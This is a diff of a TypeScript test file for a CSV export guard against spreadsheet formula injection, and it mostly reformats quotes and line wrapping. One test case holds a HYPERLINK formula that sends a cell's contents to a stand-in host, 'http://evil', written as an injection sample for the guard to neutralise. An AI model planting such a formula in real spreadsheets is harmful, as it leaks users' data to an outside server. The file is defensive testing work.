@@ -25,7 +25,7 @@ describe("a text in a spreadsheet", () => {
     ["＋1", "'＋1"],
     ["－1", "'－1"],
     ["＠SUM(A1)", "'＠SUM(A1)"],
-    ['safe\n=HYPERLINK("http://evil?"&A1)', "safe\n'=HYPERLINK(\"http://evil?\"&A1)"],
+    ['safe\n=HYPERLINK("http://evil?"&A1)', 'safe\n\'=HYPERLINK("http://evil?"&A1)'],
     ["safe\r\n=1", "safe\r\n'=1"],
     ["safe\u2028=1", "safe\u2028'=1"],
     ["a;=1", "a;'=1"],
@@ -37,12 +37,17 @@ describe("a text in a spreadsheet", () => {
     expect(guardFormula(given)).toBe(guarded);
   });
 
-  it.each(["a=b", "2026-11-24", "exports/a-b+c@d.csv", "x - y", "", " ", "Łódź", "price: 5"])("%j stays as it is", (text) => {
-    expect(guardFormula(text)).toBe(text);
-  });
+  it.each(["a=b", "2026-11-24", "exports/a-b+c@d.csv", "x - y", "", " ", "Łódź", "price: 5"])(
+    "%j stays as it is",
+    (text) => {
+      expect(guardFormula(text)).toBe(text);
+    },
+  );
 
   it("has no formula at the start of any cell that any common separator would make of it", () => {
-    const hostile = fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "＝", "\t", "\r", "\n", ";", ",", '"', "'", " ", "a", "|", "\u2028") });
+    const hostile = fc.string({
+      unit: fc.constantFrom("=", "+", "-", "@", "＝", "\t", "\r", "\n", ";", ",", '"', "'", " ", "a", "|", "\u2028"),
+    });
     fc.assert(
       fc.property(hostile, (text) => {
         for (const cell of guardFormula(text).split(/[\n\r\v\f\u0085\u2028\u2029,;|]/)) {
@@ -74,13 +79,14 @@ describe("a file", () => {
   });
 
   it("does not take a text in a number's place for a number", () => {
-    expect(csvLine(COLUMNS, { text: "x", count: "-1", flag: false })).toBe("\"x\",\"'-1\",false\r\n");
+    expect(csvLine(COLUMNS, { text: "x", count: "-1", flag: false })).toBe('"x","\'-1",false\r\n');
   });
 
   it("comes back from a strict parser row by row, whatever the names hold", () => {
     fc.assert(
       fc.property(fc.array(fc.string({ unit: "binary" })), (texts) => {
-        const body = csvHeader(COLUMNS) + texts.map((text) => csvLine(COLUMNS, { text, count: "1", flag: true })).join("");
+        const body =
+          csvHeader(COLUMNS) + texts.map((text) => csvLine(COLUMNS, { text, count: "1", flag: true })).join("");
         expect(read(body).slice(1)).toEqual(texts.map((text) => [guardFormula(text), "1", "true"]));
       }),
     );
